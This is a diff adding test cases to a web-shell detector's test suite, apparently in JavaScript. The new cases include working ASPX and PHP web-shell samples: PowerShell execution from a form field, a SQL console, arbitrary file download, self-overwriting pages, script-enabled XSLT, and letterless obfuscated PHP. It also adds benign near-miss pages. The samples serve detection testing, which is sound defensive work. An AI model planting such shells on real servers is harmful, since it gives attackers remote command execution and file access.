@@ -182,6 +182,36 @@ describe('judgeWebShell', () => {
       '/opt/f.php',
       '<?php function check($t) { $a = "create_function"; $h = $a("", $t); @$h(); } check($_POST["w"]); ?>',
     ],
+    [
+      'an ASPX page hosting PowerShell in its own process on a form field',
+      '/opt/ps.aspx',
+      '<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e) { var shell = System.Management.Automation.PowerShell.Create(); shell.AddCommand(Request.Form["c"]); var r = shell.Invoke(); }</script>',
+    ],
+    [
+      'an ASPX database console on its own text boxes, read through `this`',
+      '/opt/sql.aspx',
+      '<%@ Page Language="C#" %><script runat="server">void Run(object o, EventArgs e) { SqlConnection con = new SqlConnection(this.txtConnection.Text); SqlCommand cmd = new SqlCommand(this.txtQuery.Text, con); }</script><asp:TextBox ID="txtConnection" runat="server"/><asp:TextBox ID="txtQuery" runat="server"/>',
+    ],
+    [
+      'an ASPX file browser handing out a file through the response held in a variable',
+      '/opt/x.aspx',
+      '<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e) { string filename = Request.QueryString["xx"]; System.Web.HttpResponse response = System.Web.HttpContext.Current.Response; response.TransmitFile(filename); }</script>',
+    ],
+    [
+      'an ASPX page writing the request into a page it names itself',
+      '/opt/n.aspx',
+      '<%@ Page Language="C#" %><% var w = new System.IO.StreamWriter(Server.MapPath("n.aspx"), false); w.Write(Request.Item["l"]); w.Close(); %>',
+    ],
+    [
+      "an ASPX page running the visitor's stylesheet with its scripts enabled",
+      '/opt/x.aspx',
+      '<%@ Page Language="C#" %><script runat="server">void Run(object o, EventArgs e) { XmlDocument x = new XmlDocument(); x.LoadXml(Encoding.UTF8.GetString(Convert.FromBase64String(Request.Form["c"]))); XsltSettings s = new XsltSettings(false, true); XslCompiledTransform t = new XslCompiledTransform(); t.Load(x, s, new XmlUrlResolver()); }</script>',
+    ],
+    [
+      'PHP written without letters or digits',
+      '/opt/n.php',
+      '<?php\n$_[] = @!+_; $__ = @${_} >> $_; $_[] = $__; $_[] = @_; @$_[((++$__) + ($__++))] .= $_;\n$_[] = ++$__; $_[] = $_[--$__][$__ >> $__]; $_[$__] .= (($__ + $__) + $_[$__ - $__]) . ($__ + $__ + $__) + $_[$__ - $__];\n$_[$__ + $__] = ($_[$__][$__ >> $__]) . ($_[$__][$__] ^ $_[$__][($__ << $__) - $__]);\n$_ = $_[$__ + $__]; $_[@-_]($_[@!+_]);\n?>',
+    ],
   ])('calls %s a web shell, critical', (_, where, text) => {
     expect(judge(where, text)).toMatchObject({ severity: 'critical' });
   });
@@ -199,6 +229,22 @@ describe('judgeWebShell', () => {
       [
         '/opt/q.aspx',
         '<%@ Page Language="C#" %><% SqlCommand c = new SqlCommand("SELECT 1", conn); Label1.Text = Request.QueryString["q"]; %>',
+      ],
+      [
+        '/opt/t.aspx',
+        '<%@ Page Language="C#" %><script runat="server">void Page_Load(object o, EventArgs e) { string id = Request.QueryString["id"]; XslCompiledTransform t = new XslCompiledTransform(); t.Load(Server.MapPath("~/news.xslt"), XsltSettings.Default, null); }</script>',
+      ],
+      [
+        '/opt/r.aspx',
+        '<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e) { string id = Request.QueryString["id"]; HttpResponse response = HttpContext.Current.Response; response.TransmitFile(Server.MapPath("~/reports/annual.pdf")); }</script>',
+      ],
+      [
+        '/opt/c.aspx',
+        '<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e) { SqlConnection con = new SqlConnection(this.ConnectionName); Label1.Text = Request.QueryString["q"]; }</script>',
+      ],
+      [
+        '/opt/banner.php',
+        `<?php\necho <<<'BANNER'\n${' $$\\      $$\\  $$$$$$\\  $$$$$$$$\\ \n $$$\\    $$$ |$$  __$$\\ $$  _____|\n'.repeat(4)}BANNER;\n$render = 'strtoupper';\necho $render("hello");`,
       ],
     ]) {
       const hit = judge(where!, text!);
